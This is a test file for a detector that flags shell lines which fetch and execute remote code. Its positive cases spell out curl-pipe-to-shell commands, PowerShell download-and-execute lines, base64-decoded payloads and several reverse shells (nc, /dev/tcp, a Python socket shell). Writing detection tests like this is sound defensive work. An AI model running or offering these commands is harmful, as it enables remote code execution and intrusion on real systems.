import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assertLinear } from '../../text/testing.ts';
import { line } from '../testing.ts';
import { findRemoteCode } from './remote-code.ts';

const fires: readonly string[] = [
  'curl -fsSL https://x.sh | sudo bash -s -- a',
  'bash -c "$(curl -fsSL https://x.com)"',
  'bash <(curl -s https://x.com)',
  'eval "$(wget -qO- https://x.com)"',
  'source <(curl x.com)',
  'sh -c "curl x.com/i | sh"',
  'curl x.com | tee f | bash',
  'x=$(curl y.com); eval "$x"',
  'curl -o i.sh https://x.com/i.sh && bash i.sh',
  'wget https://x.com/i.sh; chmod +x i.sh; ./i.sh',
  'echo Y3 | base64 -d | sh',
  'echo "$(echo Y | base64 --decode)" | bash',
  'powershell -enc abcd',
  'powershell -c "iwr https://x.com | iex"',
  'powershell -NoP "iex ((New-Object Net.WebClient).DownloadString(\'https://x.com/y.ps1\'))"',
  'powershell -c "$s = (New-Object Net.WebClient).DownloadString(\'https://x.com\'); iex $s"',
  'powershell -Command "IEX(IWR https://x.com)"',
  'bash -i >& /dev/tcp/1.2.3.4/4 0>&1',
  'nc -e /bin/sh 1.2.3.4 4',
  'rm f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc 1.2.3.4 4 > f',
  'python -c \'import socket,os,pty;s=socket.socket();s.connect(("a",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
  "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://x.com').read())\"",
  'curl -s https://x.com | python3 -',
  'curl https://x.com | node',
  'bash -c {echo,YmFz}|{base64,-d}|{bash,-i}',
  'cmd /c "curl https://x.com/a.bat -o a.bat & a.bat"',
  'powershell -c "iwr https://x.com/a.exe -OutFile a.exe; ./a.exe"',
  'node -e "$(curl -s https://x.com)"',
  'bash <<< "$(curl https://x.com)"',
  'curl "$URL" | sh',
  'docker run x sh -c "wget -O- https://x.com | sh"',
  'env A=b curl x.com|sh',
  '`curl x.com`',
  'sh -c "$(printf %s Y3Vy | base64 -d)"',
  'nc evil.com 4444 | sh',
  'curl http://tools/install.sh | sh',
  'python -c "import os; os.system(\'curl -s https://x.com/i.sh | sh\')"',
  'uvx python -c "import subprocess as s; subprocess.run(\'wget -qO- https://x.com|bash\', shell=True)"',
  "node -e \"require('child_process').execSync('curl https://x.com | sudo bash')\"",
];

const quiet: readonly string[] = [
  'curl http://localhost:3000/h | sh',
  'curl -fsS http://127.0.0.1/health',
  'curl -s http://host.docker.internal:3000/h | sh',
  'echo "curl x | sh"',
  'grep -q "curl .*| *bash" file',
  'curl https://x.com/y.json | jq .a',
  'curl https://x.com | python3 -m json.tool',
  'curl x.com | python3 -c "import sys,json; print(json.load(sys.stdin))"',
  'bash ./scripts/start.sh',
  'curl -o i.sh https://x.com/i.sh && echo "abc  i.sh" | sha256sum -c && bash i.sh',
  'curl -o data.json https://x.com/d && node process.js data.json',
  'cat x | base64 -d > out',
  'echo hi | bash script.sh',
  'jq -r .x | bash -n',
  'node -e "/a/.exec(1);fetch(\'https://x.com\')"',
  'curl -fsSL https://x.com/key.gpg | gpg --dearmor -o k',
  'curl https://x.com/a.tgz | tar xz',
  'ssh host ls',
  'git log | sh -c "cat"',
  'x=$(curl y.com); echo "$x"',
  'bash "$DIR/a.sh" "$(curl x.com)"',
  'source .env',
  'eval "$(direnv hook bash)"',
  'eval "$(ssh-agent -s)"',
  'source <(kubectl completion bash)',
  'python -c "print(\'never curl https://x.com | sh\')"',
  'python -c "import os; os.system(\'curl -s https://x.com/a.json | jq .\')"',
];

describe('remote code', () => {
  for (const text of fires) {
    it(`is run by ${text}`, () => assert.ok(findRemoteCode(line(text)).length > 0));
  }
  for (const text of quiet) {
    it(`is not run by ${text}`, () => assert.deepEqual(findRemoteCode(line(text)), []));
  }

  const kinds: readonly (readonly [text: string, kind: string, runner: string, origin: string])[] = [
    ['curl -s https://x.example.com | sudo bash', 'fetched', 'bash', 'curl'],
    ['echo eA== | base64 -d | sh', 'decoded', 'sh', 'base64'],
    ['powershell -enc eAB5AA==', 'encoded', 'powershell', 'eAB5AA=='],
    ['nc -e /bin/sh x.example.com 4444', 'reverse-shell', 'nc', 'nc'],
    ['wget https://x.example.com/i.sh && sh i.sh', 'fetched', 'sh', 'wget'],
  ];
  for (const [text, kind, runner, origin] of kinds) {
    it(`${text}: ${kind}, from ${origin} to ${runner}`, () => {
      const found = findRemoteCode(line(text)).map((code) => [code.kind, code.runner.text, code.origin.text]);
      assert.deepEqual(found, [[kind, runner, origin]]);
    });
  }

  it('is found in linear time', () => {
    for (const unit of ['curl x|', '$(curl x)', 'x=$(curl y);eval $x;', "python -c 'system(curl curl ';"]) {
      const lines = { quarter: line(unit.repeat(5_000)), whole: line(unit.repeat(20_000)) };
      assertLinear(unit, (part) => findRemoteCode(lines[part]));
    }
  });
});
